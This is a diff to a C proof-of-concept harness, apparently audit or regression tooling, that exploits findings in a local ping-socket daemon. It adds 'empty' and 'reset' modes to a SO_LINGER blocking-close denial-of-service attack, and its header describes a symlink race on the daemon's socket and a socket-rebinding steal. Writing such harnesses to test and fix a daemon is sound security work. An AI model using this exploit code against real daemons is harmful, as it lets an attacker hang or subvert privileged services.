@@ -8,12 +8,16 @@
  *        finding 1: swap the daemon's fresh socket DIR/NAME for a symbolic
  *        link to VICTIM, at once (inotify) and from a tight polling loop,
  *        until STOPFILE exists; prints "race swaps=N"
- *   attack linger hello|data GOFILE STOPFILE
+ *   attack linger hello|data|empty|reset GOFILE STOPFILE
  *        finding 2: a TCP socket whose close blocks (SO_LINGER 30 s,
  *        unacknowledged data, a peer that never reads), passed to the
  *        daemon once GOFILE exists, on a new control connection before
  *        HELLO, or on a socket's data descriptor; holds the peer until
- *        STOPFILE exists
+ *        STOPFILE exists.  empty and reset pass it on a control
+ *        connection and hang up at once, after an empty record (a read
+ *        of it returns 0, as the end does) or with the answer to a HELLO
+ *        unread (the daemon's first read fails, ECONNRESET): what the
+ *        daemon drains on its way out stops before the descriptor
  *   attack steal IDENT SECONDS
  *        finding 3: a broker socket unbound with the kernel's
  *        connect(AF_UNSPEC) and bound again to IDENT with the kernel's
@@ -476,17 +480,44 @@ static int linger_pair(int *snd, int *rcv)
 }
 
 /* Where the descriptor goes: a new control connection, or the data
- * descriptor of a socket of ours. */
+ * descriptor of a socket of ours.  reset: the connection has an answer
+ * to a HELLO waiting, unread. */
 static int linger_target(const char *mode)
 {
-	if (strcmp(mode, "data") == 0) {
-		int fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
+	struct wire_req req = { .type = WIRE_HELLO, .u.version = WIRE_VERSION };
+	struct pollfd pfd;
+	int fd;
 
+	if (strcmp(mode, "data") == 0) {
+		fd = pingsock_socket(AF_INET, SOCK_DGRAM, IPPROTO_ICMP);
 		if (fd < 0)
 			printf("socket=%s\n", ename(errno));
 		return fd;
 	}
-	return dial();
+	fd = dial();
+	if (fd >= 0 && strcmp(mode, "reset") == 0) {
+		pfd = (struct pollfd){ .fd = fd, .events = POLLIN };
+		if (send_req(fd, &req, NULL, 0, NULL, 0) ||
+		    poll(&pfd, 1, 3000) != 1) {
+			close(fd);
+			return -1;
+		}
+	}
+	return fd;
+}
+
+/* Pass snd on to, as mode says: 0 or errno. */
+static int linger_pass(int to, const char *mode, int snd)
+{
+	struct wire_req req = { .type = WIRE_HELLO, .u.version = WIRE_VERSION };
+	int e;
+
+	if (strcmp(mode, "data") == 0 || strcmp(mode, "reset") == 0)
+		return send_msg(to, "x", 1, &snd, 1);
+	if (strcmp(mode, "hello") == 0)
+		return send_req(to, &req, NULL, 0, &snd, 1);
+	e = send_msg(to, "", 0, NULL, 0);	/* empty */
+	return e ? e : send_msg(to, "x", 1, &snd, 1);
 }
 
 /*
@@ -494,11 +525,13 @@ static int linger_target(const char *mode)
  * meanwhile, so that the daemon's reference is the last one whichever
  * process is scheduled first: the attacker may simply retry until it
  * wins that race), and the attacker's own copy is closed at once.
+ * empty and reset hang up at once too.
  */
 static int cmd_linger(char **argv)
 {
 	int snd, rcv, to = linger_target(argv[2]), e;
-	struct wire_req req = { .type = WIRE_HELLO, .u.version = WIRE_VERSION };
+	bool hangup = strcmp(argv[2], "empty") == 0 ||
+		      strcmp(argv[2], "reset") == 0;
 
 	if (to < 0 || linger_pair(&snd, &rcv)) {
 		perror("attack: linger set-up");
@@ -506,12 +539,11 @@ static int cmd_linger(char **argv)
 	}
 	printf("ready\n");
 	wait_file(argv[3]);
-	if (strcmp(argv[2], "data") == 0)
-		e = send_msg(to, "x", 1, &snd, 1);
-	else
-		e = send_req(to, &req, NULL, 0, &snd, 1);
+	e = linger_pass(to, argv[2], snd);
 	if (!e)
 		close(snd);	/* the daemon's reference is the last */
+	if (hangup)
+		close(to);
 	printf("send=%s\n", e ? ename(e) : "ok");
 	printf("passed\n");
 	wait_file(argv[4]);
